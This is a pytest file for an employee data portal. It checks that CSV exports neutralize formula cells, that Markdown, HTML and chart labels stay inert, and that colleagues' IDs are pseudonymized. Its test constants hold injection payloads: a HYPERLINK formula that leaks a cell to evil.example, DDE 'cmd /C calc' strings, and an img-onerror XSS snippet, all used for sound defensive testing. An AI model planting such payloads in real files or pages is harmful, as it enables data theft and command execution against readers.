"""Output that cannot attack its reader: CSV cells a spreadsheet would run,
text from one person rendered as Markdown or HTML for another, and
colleagues' identifiers typed into free text."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from streamlit.testing.v1 import AppTest

from auth.policy import VIEW_OWN_TELEMETRY
from auth.principal import Role
from portal import council_views as views
from portal import figures
from portal.plain import literal
from portal.svg_charts import PALETTE, stacked_bars
from queries.backend import Backend
from queries.console.process import ConsoleLimits
from queries.console.run import run_statement
from queries.council.figures import oversight
from queries.erasure.requests import Move, Scope
from queries.mydata.csv_safe import csv_bytes
from queries.mydata.export import build_export
from queries.mydata.inventory import inventory_for
from queries.mydata.my_rows import my_rows
from tests.conftest import signed_in_claims, write_config
from tests.test_my_data import principal_for
from tests.test_pages import PORTAL

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
MARKDOWN = ("[click me](http://evil.example/phish) ![](http://evil.example/pixel.png) <img src=x onerror=alert(1)> "
            "**bold**")
HTML_NAME = '<a href="http://evil.example/phish">svc-reporting</a>'



def plant_notes(lake: Path, me, colleague) -> list[str]:
    """A table of notes about me that mention a colleague in free text and
    carry formula-like text a colleague could have sent me."""
    notes = [f"loop in {colleague.email} ({colleague.employee_id}) on this", *FORMULAS,
             f"nested mention {colleague.employee_id.lower()}"]
    folder = lake / "warehouse" / "collab.db" / "planted_notes"
    folder.mkdir(parents=True)
    pq.write_table(pa.table({
        "employee_id": [me.employee_id] * len(notes),
        "note": notes,
        "thread": [{"people": [colleague.email], "about": f"see {colleague.employee_id}"}] * len(notes),
        "ts": pa.array([pd.Timestamp("2026-10-20 09:00")] * len(notes), pa.timestamp("us")),
    }), folder / "part-0.parquet")
    return notes


@pytest.fixture
def planted(tmp_path, lake, demo_users):
    backend = Backend.open(write_config(tmp_path, lake))
    me = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
    colleague = backend.directory.by_id(demo_users["employee, heavy data"]["employee_id"])
    notes = plant_notes(lake, me, colleague)
    backend.refresh()
    yield backend, me, colleague, notes
    backend.close()


def never_named(text: str, colleague) -> None:
    assert colleague.email not in text and colleague.email.upper() not in text
    assert colleague.employee_id not in text and colleague.employee_id.lower() not in text


def test_csv_cells_that_would_run_as_formulas_are_neutralized():
    data, counts = csv_bytes(pa.table({"text": FORMULAS + ["plain", None], "n": [-1] * 6 + [2, 3]}))
    cells = pacsv.read_csv(io.BytesIO(data)).column("text").to_pylist()
    assert all(cell.startswith("'") for cell in cells[:6])
    assert [cell[1:] for cell in cells[:6]] == FORMULAS
    assert cells[6] == "plain" and counts == {"text": 6}
    assert pacsv.read_csv(io.BytesIO(data)).column("n").to_pylist()[:2] == [-1, -1]


def test_the_export_neutralizes_csv_keeps_parquet_exact_and_says_so(planted):
    backend, me, colleague, notes = planted
    inventory = inventory_for(backend, principal_for(me))
    export = build_export(backend, principal_for(me), inventory)
    archive = zipfile.ZipFile(io.BytesIO(export.data))
    manifest = json.loads(archive.read("manifest.json"))
    [table] = [t for t in manifest["tables"] if t["table"] == "collab.planted_notes"]
    assert table["csv_cells_neutralized"] == {"note": len(FORMULAS)}
    assert "OWASP" in manifest["csv_neutralization"]
    as_csv, _, as_parquet = table["files"]
    csv_notes = pacsv.read_csv(io.BytesIO(archive.read(as_csv))).column("note").to_pylist()
    for cell in csv_notes:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    parquet_notes = pq.read_table(io.BytesIO(archive.read(as_parquet))).column("note")
    assert set(FORMULAS) <= set(parquet_notes.to_pylist())
    for name in archive.namelist():
        never_named(archive.read(name).decode("utf-8", errors="replace"), colleague)


def test_colleagues_in_free_text_are_pseudonymized_in_previews(planted):
    backend, me, colleague, notes = planted
    entry = next(e for e in inventory_for(backend, principal_for(me)).entries if e.name == "collab.planted_notes")
    [preview] = my_rows(backend, principal_for(me), VIEW_OWN_TELEMETRY, [entry], limit=50)
    shown = json.dumps(preview.rows.to_pylist(), default=str)
    never_named(shown, colleague)
    assert "loop in colleague-" in shown and me.employee_id in shown


def test_colleagues_in_free_text_are_pseudonymized_in_console_slices(planted):
    backend, me, colleague, notes = planted
    result = run_statement(backend, principal_for(me), "SELECT note, thread FROM collab.planted_notes",
                           ConsoleLimits(timeout_s=10))
    assert result.ok, result.error
    shown = json.dumps(result.rows.to_pylist(), default=str)
    never_named(shown, colleague)
    assert len(set(re.findall(r"colleague-[0-9a-f]{10}", shown))) == 1, "one colleague, one pseudonym, everywhere"


def test_a_deletion_reason_is_shown_to_the_officer_as_text(config, monkeypatch, demo_users):
    monkeypatch.setenv("PORTAL_CONFIG", str(config))
    backend = Backend.open(config)
    employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
    backend.requests.submit(principal_for(employee), Scope(True), MARKDOWN)
    backend.close()
    hr = AppTest.from_file(str(PORTAL / "pages" / "hr_queue.py"), default_timeout=60)
    hr.user = signed_in_claims(demo_users["HR privacy officer"])
    hr.run()
    hr.selectbox[0].set_value(hr.selectbox[0].options[0]).run()
    assert not hr.exception
    assert MARKDOWN in [t.value for t in hr.text]
    rendered = [m.value for m in hr.markdown] + [m.value for m in hr.caption]
    assert not any("evil.example" in value for value in rendered)


def test_an_officers_reason_is_shown_to_the_employee_as_text(config, monkeypatch, demo_users):
    monkeypatch.setenv("PORTAL_CONFIG", str(config))
    backend = Backend.open(config)
    employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
    officer = backend.directory.by_id(demo_users["HR privacy officer"]["employee_id"])
    request = backend.requests.submit(principal_for(employee), Scope(True), "please")
    backend.requests.transition(principal_for(officer, Role.HR), request.request_id, Move.EXTEND, MARKDOWN)
    backend.requests.transition(principal_for(officer, Role.HR), request.request_id, Move.DENY, MARKDOWN)
    backend.close()
    at = AppTest.from_file(str(PORTAL / "pages" / "deletion.py"), default_timeout=60)
    at.user = signed_in_claims(demo_users["employee, median data"])
    at.run()
    assert not at.exception
    assert sum(t.value.endswith(f"The reason given: {MARKDOWN}") for t in at.text) == 2, "shown as text, as written"
    rendered = [m.value for kind in ("markdown", "caption", "warning", "info", "error") for m in getattr(at, kind)]
    assert not any("evil.example" in value for value in rendered)


@pytest.mark.parametrize("attack", [MARKDOWN, HTML_NAME, "`code` _em_ # heading", "line\n# injected heading",
                                    "a\\](http://evil.example)"])
def test_literal_markdown_leaves_no_markup_active(attack):
    escaped = literal(attack)
    for mark in "[]()!<>`*_#":
        assert all(escaped[i - 1] == "\\" for i, c in enumerate(escaped) if c == mark)
    assert "\n" not in escaped


def test_chart_labels_are_text_not_html():
    figure = views.accesses_chart(pd.DataFrame({"month": ["2026-10"], "source": ["warehouse"],
                                                "accessor group": [f"service account {HTML_NAME}"],
                                                "accesses": [42]}))
    labels = json.dumps(figure.to_plotly_json(), default=str)
    assert "<a href" not in labels and "&lt;a href" in labels


@pytest.mark.parametrize("place", ["value", "series", "column name", "label"])
def test_every_label_a_chart_draws_is_escaped(place):
    """Values, series, axis and legend titles, tooltips: wherever a name
    typed by someone lands in a chart, plotly shows it as text."""
    frame = pd.DataFrame({"column": ["a", "b"], "series": ["s", "t"], "n": [1, 2]})
    if place in ("value", "series"):
        frame[place if place == "series" else "column"] = HTML_NAME
    x = "column"
    if place == "column name":
        frame, x = frame.rename(columns={"column": HTML_NAME}), HTML_NAME
    labels = {"n": HTML_NAME} if place == "label" else {}
    for figure in (figures.bars(frame, x, "n", color="series", title=f"n by {x}", labels=labels),
                   figures.bars(frame, "n", x, horizontal=True, labels=labels)):
        if place == "series" and not figure.data[0].name:
            continue  # the horizontal bars have no series
        text = json.dumps(figure.to_plotly_json(), default=str)
        assert "<a href" not in text and "&lt;a href" in text


def test_a_chart_of_an_unnamed_column_has_no_title_on_that_axis():
    figure = figures.bars(pd.DataFrame({"": ["typing speed", "pauses"], "value": [3, 4]}), "value", "",
                          horizontal=True)
    assert figure.layout.yaxis.title.text == "" and figure.data[0].hovertemplate == "value: %{x}<br>%{y}<extra></extra>"
    assert list(figure.data[0].y) == ["typing speed", "pauses"] and figure.data[0].orientation == "h"


def test_a_heatmap_s_labels_are_escaped():
    figure = figures.heatmap([[1, 2]], [HTML_NAME, "b"], [HTML_NAME], title=HTML_NAME, labels={"color": HTML_NAME})
    text = json.dumps(figure.to_plotly_json(), default=str)
    assert "<a href" not in text and text.count("&lt;a href") >= 4


def test_the_report_s_stacked_bars_escape_labels_name_every_series_and_leave_withheld_cells_out():
    frame = pd.DataFrame({"source": ["portal", "warehouse", "warehouse", "portal"],
                          "accessor group": ["hr", "hr", f"service account {HTML_NAME}", "tiny"],
                          "accesses": [12, 40, 25, None]})
    svg = stacked_bars(frame, "accessor group", "source", "accesses", "Accesses <by> group")
    assert "<a href" not in svg and "&lt;a href" in svg and "&lt;by&gt;" in svg
    assert "tiny" not in svg, "a withheld cell is not drawn"
    assert svg.count(f"fill='{PALETTE[0]}'") == 2 and svg.count(f"fill='{PALETTE[1]}'") == 3, \
        "one colour per series: a legend swatch and a segment each"
    assert ">portal</text>" in svg and ">warehouse</text>" in svg, "the legend names each series"
    assert "<title>hr, warehouse: 40</title>" in svg and "role='img'" in svg and "<desc>" in svg
    assert stacked_bars(frame.assign(accesses=None), "accessor group", "source", "accesses", "t") == "", \
        "nothing released: no empty chart"


def test_a_service_account_name_from_the_log_never_reaches_the_council_report(tmp_path, lake, demo_users):
    """Only service accounts the grants history names are named; one the log
    alone names (here with HTML in it) is counted among the others."""
    log = lake / "audit" / "ranger_audit.jsonl"
    events = [json.loads(line) for line in log.read_text().splitlines()]
    service = [e for e in events if e.get("user_type") == "service"][:40]
    assert service, "the sample has service-account reads"
    with open(log, "a") as out:
        for number, event in enumerate(service):
            out.write(json.dumps({**event, "event_id": f"planted-{number}", "request_user": HTML_NAME}) + "\n")
    backend = Backend.open(write_config(tmp_path, lake))
    backend.refresh()
    member = backend.directory.by_id(demo_users["works-council member"]["employee_id"])
    html = views.report_html(oversight(backend, principal_for(member, Role.WORKS_COUNCIL), "2026-10"))
    backend.close()
    assert "svc-reporting" not in html and "evil.example" not in html
    assert "service accounts not in the grants history" in html and "service account svc-" in html
